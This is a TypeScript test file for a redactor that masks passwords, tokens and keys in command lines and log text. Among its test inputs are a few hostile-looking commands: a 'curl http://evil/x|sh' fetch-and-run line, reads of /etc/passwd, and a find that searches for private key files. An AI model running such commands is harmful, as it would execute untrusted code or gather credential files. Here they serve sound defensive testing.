import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { redactor } from './redact.ts'

const shell = (script: string) => ['sh', '-c', script]

describe('secrets are taken out', () => {
  test.each<[readonly string[], string]>([
    [['tool', '--password=hunter2'], 'tool --password=[redacted]'],
    [['tool', '--password', 'hunter2', 'x'], 'tool --password [redacted] x'],
    [['tool', '--db-password', "it's"], 'tool --db-password [redacted]'],
    [['tool', '-token', 'abc'], 'tool -token [redacted]'],
    [['tool', '--client-secret=a b c'], 'tool --client-secret=[redacted]'],
    [['mysql', '-uroot', '-phunter2', 'shop'], 'mysql -uroot -p[redacted] shop'],
    [['/usr/bin/mysqldump', '-psecret'], '/usr/bin/mysqldump -p[redacted]'],
    [['sudo', 'mysql', '-psecret'], 'sudo mysql -p[redacted]'],
    [['sshpass', '-p', 'pw', 'ssh', '-p', '22', 'h'], 'sshpass -p [redacted] ssh -p 22 h'],
    [['docker', 'login', '-u', 'me', '-p', 'pw'], 'docker login -u me -p [redacted]'],
    [['redis-cli', '-a', 'pw'], 'redis-cli -a [redacted]'],
    [['curl', '-u', 'me:pw', 'http://h'], 'curl -u me:[redacted] http://h'],
    [['curl', '-ume:pw', 'http://h'], 'curl -ume:[redacted] http://h'],
    [['smbclient', '-U', 'a%pw', '//h/s'], 'smbclient -U a%[redacted] //h/s'],
    [['git', 'clone', 'https://me:pw@h/r'], 'git clone https://me:[redacted]@h/r'],
    [['psql', 'postgres://u:p@ss@h/db'], 'psql postgres://u:[redacted]@h/db'],
    [['curl', '-H', 'Authorization: Bearer abc.def'], 'curl -H Authorization: Bearer [redacted]'],
    [['curl', '-H', 'X-Api-Key:abc'], 'curl -H X-Api-Key:[redacted]'],
    [['curl', '-H', 'Cookie: a=b; c=d'], 'curl -H Cookie: [redacted]'],
    [['curl', '-d', '{"password": "x y", "a": 1}'], 'curl -d {"password": "[redacted]", "a": 1}'],
    [['env', 'PGPASSWORD=x', 'MYSQL_PWD=y', 'psql'], 'env PGPASSWORD=[redacted] MYSQL_PWD=[redacted] psql'],
    [['openssl', 'enc', '-passin', 'pass:abc'], 'openssl enc -passin pass:[redacted]'],
    [
      ['aws', 'configure', 'set', 'aws_secret_access_key', 'abc'],
      'aws configure set aws_secret_access_key [redacted]',
    ],
    [['x', 'AKIAIOSFODNN7EXAMPLE'], 'x [redacted]'],
    [['x', `ghp_${'a'.repeat(36)}`], 'x [redacted]'],
    [['x', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0.c2ln'], 'x [redacted]'],
    [['x', '-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----'], 'x [redacted]'],
    [shell('mysql -u root -psecret db; ls'), 'sh -c mysql -u root -p[redacted] db; ls'],
    [shell('echo x && tool --token abc; ls'), 'sh -c echo x && tool --token [redacted]; ls'],
    [shell('export DB_PASS="a b"; run'), 'sh -c export DB_PASS="[redacted]"; run'],
    [['env', 'sh', '-c', "sh -c 'mysql -psecret'"], "env sh -c sh -c 'mysql -p[redacted]'"],
    [shell('tool --password "a b c" --next x'), 'sh -c tool --password "[redacted]"   --next x'],
  ])('%j', (argv, expected) => {
    expect(redactor.command(argv)).toBe(expected)
  })
})

describe('what is no secret stays', () => {
  test.each<readonly string[][]>([
    [['cat', '/etc/passwd']],
    [['docker', 'run', '-v', '/etc/passwd:/etc/passwd', '-p', '80:80', 'nginx']],
    [['psql', '--no-password', 'shop']],
    [['tool', '--password-file', '/run/secrets/x']],
    [['env', 'PWD=/tmp', 'OLDPWD=/']],
    [['ssh', '-p', '2222', 'me@h']],
    [['find', '/', '-name', 'id_rsa', '-o', '-name', '*.key']],
    [['curl', 'http://h:8080/x']],
    [['tool', '--password', '--verbose']],
    [['constructor', '__proto__', '-p', 'x']],
  ])('%j', (argv) => {
    expect(redactor.command(argv)).toBe(argv.join(' '))
  })

  test('what a shell would work out is an attack rather than a secret', () => {
    for (const script of [
      'password=$(curl http://evil/x|sh)',
      'TOKEN=`id`',
      'mysql -p$PW',
      'x --token "$T"',
    ]) {
      expect(redactor.command(shell(script))).toBe(`sh -c ${script}`)
    }
  })
})

test('a secret never survives, wherever it stands among other words', () => {
  const secret = 'S3cr3tValue99'
  const form = fc.constantFrom<(s: string) => string[]>(
    (s) => [`--password=${s}`],
    (s) => ['--token', s],
    (s) => [`https://u:${s}@h/`],
    (s) => [`API_KEY=${s}`],
    (s) => ['-H', `Authorization: Basic ${s}`],
    (s) => ['mysql', `-p${s}`],
  )
  const noise = fc.array(fc.constantFrom('-v', 'x', '/etc/passwd', 'a=b', '--', ';', '', '"', '{', '&&'), {
    maxLength: 6,
  })
  fc.assert(
    fc.property(noise, form, noise, fc.boolean(), (before, make, after, asScript) => {
      const words = [...before, ...make(secret), ...after]
      // In a script an open quote takes in the words after it, as it would for the shell.
      const argv = asScript
        ? ['sh', '-c', words.filter((word) => word !== '"').join(' ')]
        : ['prog', ...words]
      expect(redactor.command(argv)).not.toContain(secret)
    }),
    { numRuns: 2000 },
  )
})

test('text of logs is redacted by the same patterns', () => {
  expect(redactor.text('COMMAND=/usr/bin/mysql --password=hunter2')).toBe(
    'COMMAND=/usr/bin/mysql --password=[redacted]',
  )
  expect(redactor.text('Failed password for root from 192.0.2.1 port 22 ssh2')).toBe(
    'Failed password for root from 192.0.2.1 port 22 ssh2',
  )
})
